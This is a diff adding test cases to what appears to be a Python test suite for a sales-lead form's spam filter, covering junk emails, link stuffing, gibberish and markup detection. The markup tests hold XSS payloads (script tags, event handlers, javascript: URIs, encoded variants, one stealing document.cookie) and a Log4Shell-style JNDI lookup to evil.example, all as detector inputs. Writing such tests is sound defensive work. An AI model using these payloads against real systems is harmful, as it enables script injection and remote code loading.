@@ -113,6 +113,39 @@ def test_email_domain_is_the_part_after_the_at_sign() -> None:
         "asdasd@acme.com",
         "sdfsdf@acme.com",
         "  TEST+form@Acme.com ",
+        # noreply and its spellings, anywhere in the mailbox name
+        "no.reply@acme.com",
+        "No_Reply@acme.com",
+        "do.not.reply@acme.com",
+        "dontreply@acme.com",
+        "donotreply123@acme.com",
+        "noreply-billing@acme.com",
+        "billing-noreply@acme.com",
+        # mailboxes no person reads
+        "mailer-daemon@acme.com",
+        "MAILER_DAEMON@acme.com",
+        "postmaster@acme.com",
+        "abuse@acme.com",
+        # test@test.com variants
+        "test1@acme.com",
+        "test-123@acme.com",
+        "tests@acme.com",
+        "test.test@acme.com",
+        "testtest@gmail.com",
+        "test_user@acme.com",
+        "test@test.de",
+        "jane@test.acme.com",
+        # placeholders typed instead of an address
+        "A@A.A",
+        "youremail@gmail.com",
+        "your.name@company.com",
+        "firstname.lastname@acme.com",
+        "user@domain.com",
+        "email@email.com",
+        "me@me.com",
+        "na@na.com",
+        "jane@yourcompany.com",
+        "jane@asdf.com",
     ],
 )
 def test_junk_addresses_are_recognised(raw: str) -> None:
@@ -130,6 +163,15 @@ def test_junk_addresses_are_recognised(raw: str) -> None:
         "sales@acme.co.uk",
         "tester.smith@acme.com",
         "contest@acme.com",
+        "admin@acme.com",  # role inboxes people read are leads
+        "hello@acme.com",
+        "contact@acme.com",
+        "jane.test@acme.com",  # a person testing the form is still a person
+        "username.smith@acme.com",
+        "rootbeer@acme.com",
+        "bob@bob.com",  # a vanity domain, not filler
+        "ann@aaa.com",
+        "12345678@qq.com",  # QQ mailboxes are numbers
         "no_at_sign",
         "",
         None,
@@ -372,6 +414,8 @@ def test_employees_sent_as_a_json_number_parses_like_text() -> None:
         "www.a.ru www.b.ru www.c.ru cheap",
         "https://spam.example/buy-now-cheap-pills",
         "Visit http://a.ru/x http://b.ru/y",
+        "Buy now: bit.ly/x1 bit.ly/y2 cheap-pills.ru/buy",  # links without a scheme count too
+        "bit.ly/3xYz",
     ],
 )
 def test_link_stuffed_messages_are_flagged(message: str) -> None:
@@ -384,6 +428,9 @@ def test_link_stuffed_messages_are_flagged(message: str) -> None:
         "Please check our current setup at https://acme.com before the call",
         "Pricing for https://acme.com/pricing and https://acme.com/enterprise please, we have 300 reps",
         "no links here",
+        "We run Node.js/React, Vue.js/Nuxt and Next.js/Vercel today",  # not hosts: no public suffix
+        "We use salesforce.com, hubspot.com and outreach.io",  # domains without a path are not links
+        "e.g./i.e. and/or w/o",
         "",
         None,
     ],
@@ -402,6 +449,18 @@ def test_messages_with_a_link_or_two_in_real_text_are_not_link_stuffed(message: 
         "&lt;script&gt;",
         "[url=http://spam.example]cheap[/url]",
         "javascript:alert(1)",
+        "JAVASCRIPT :alert(1)",
+        "vbscript:msgbox(1)",
+        "data:text/html;base64,PHNjcmlwdD4=",
+        '" onmouseover="alert(1)',  # breaking out of an attribute: a handler without a tag
+        "x onerror=alert(1)",
+        "<svg/onload=alert(1)>",
+        "<iframe src=//evil.example",  # unclosed
+        "<iframe src='https://evil.example'></iframe>",
+        "&#60;script&#62;",  # numeric entities
+        "&#x3C;script",
+        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",  # %-escaped
+        "${jndi:ldap://evil.example/a}",
     ],
 )
 def test_markup_is_detected(text: str) -> None:
@@ -410,7 +469,25 @@ def test_markup_is_detected(text: str) -> None:
 
 @pytest.mark.parametrize(
     "text",
-    ["I <3 your product", "a < b > c", "write to <jane@acme.com>", "JavaScript: yes", "R&D", "50% off", None],
+    [
+        "I <3 your product",
+        "a < b > c",
+        "write to <jane@acme.com>",
+        "JavaScript: yes",
+        "R&D",
+        "Q&amp;A",
+        "AT&T",
+        "50% off",
+        "100%3 sure",
+        "online=true",
+        "onboarding = week 1",
+        "x < form fields",
+        "size<10",
+        "scripting: python",
+        "https://acme.com/landing?utm_source=x%20y&a=b",
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0",
+        None,
+    ],
 )
 def test_plain_text_with_angle_brackets_is_not_markup(text: str | None) -> None:
     assert not has_markup(text)
@@ -426,6 +503,7 @@ def test_plain_text_with_angle_brackets_is_not_markup(text: str | None) -> None:
         "kjhdfkjhsdkjfhksjdhf",
         "dfgdfgdfg dfgdfgdfg",
         "qwrtp zxcvb mnbvc",
+        "ajsdhaksjdhaksjdh",  # home-row mash with a vowel in it
     ],
 )
 def test_gibberish_messages_are_flagged(message: str) -> None:
@@ -444,6 +522,8 @@ def test_gibberish_messages_are_flagged(message: str) -> None:
         "We need SSO/SCIM + HIPAA BAA for 2,000 users",
         "Strengths, rhythm and Mr. Schwarzschild",
         "Wir brauchen eine Demo für unser Vertriebsteam",
+        "Flask and Haskell for our salads in Dallas",  # home-row words, but real ones
+        "Maksu kassalla",  # Finnish: home-row letters only, but vowel-rich
         "Nous voulons une démonstration, merci",
         "我们需要演示",
         "Нам нужна демонстрация",
@@ -492,9 +572,36 @@ def test_whitespace_honeypot_is_not_filled() -> None:
     assert event_from(honeypot="   ")["spam_signals"] == ""
 
 
-def test_markup_in_any_text_field_is_flagged() -> None:
-    assert event_from(job_title="<script>x</script>")["spam_signals"] == "markup_in_fields"
-    assert event_from(utm={"campaign": "<img src=x onerror=1>"})["spam_signals"] == "markup_in_fields"
+@pytest.mark.parametrize(
+    "fields",
+    [
+        {"job_title": "<script>x</script>"},
+        {"utm": {"campaign": "<img src=x onerror=1>"}},
+        {"first_name": "Jane<iframe src=//evil.example>"},
+        {"company": '" onfocus="alert(1)'},
+        {"landing_page": "https://acme.com/?q=%3Cscript%3Ealert(1)%3C/script%3E"},
+        {"website": "javascript:alert(document.cookie)"},
+        {"user_agent": "Mozilla/5.0 <script>alert(1)</script>"},
+        {"ip": "${jndi:ldap://evil.example/a}"},
+        {"partner": {"id": "p1", "referrer_email": "ref@partner.io<svg/onload=alert(1)>"}},
+    ],
+)
+def test_markup_in_any_text_field_is_flagged(fields: dict[str, object]) -> None:
+    assert "markup_in_fields" in event_from(**fields)["spam_signals"].split(";")
+
+
+def test_markup_in_the_email_field_is_flagged_beside_the_invalid_address() -> None:
+    assert event_from(email="jane@acme.com<script>")["spam_signals"] == "invalid_email;markup_in_fields"
+
+
+def test_a_browser_user_agent_and_a_tracked_landing_page_are_not_markup() -> None:
+    row = event_from(
+        email="jane@acme.com",
+        landing_page="https://acme.com/demo?utm_source=linkedin&utm_content=q3%20launch",
+        user_agent="Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko)",
+        ip="203.0.113.7",
+    )
+    assert row["spam_signals"] == ""
 
 
 # --- the whole event ---
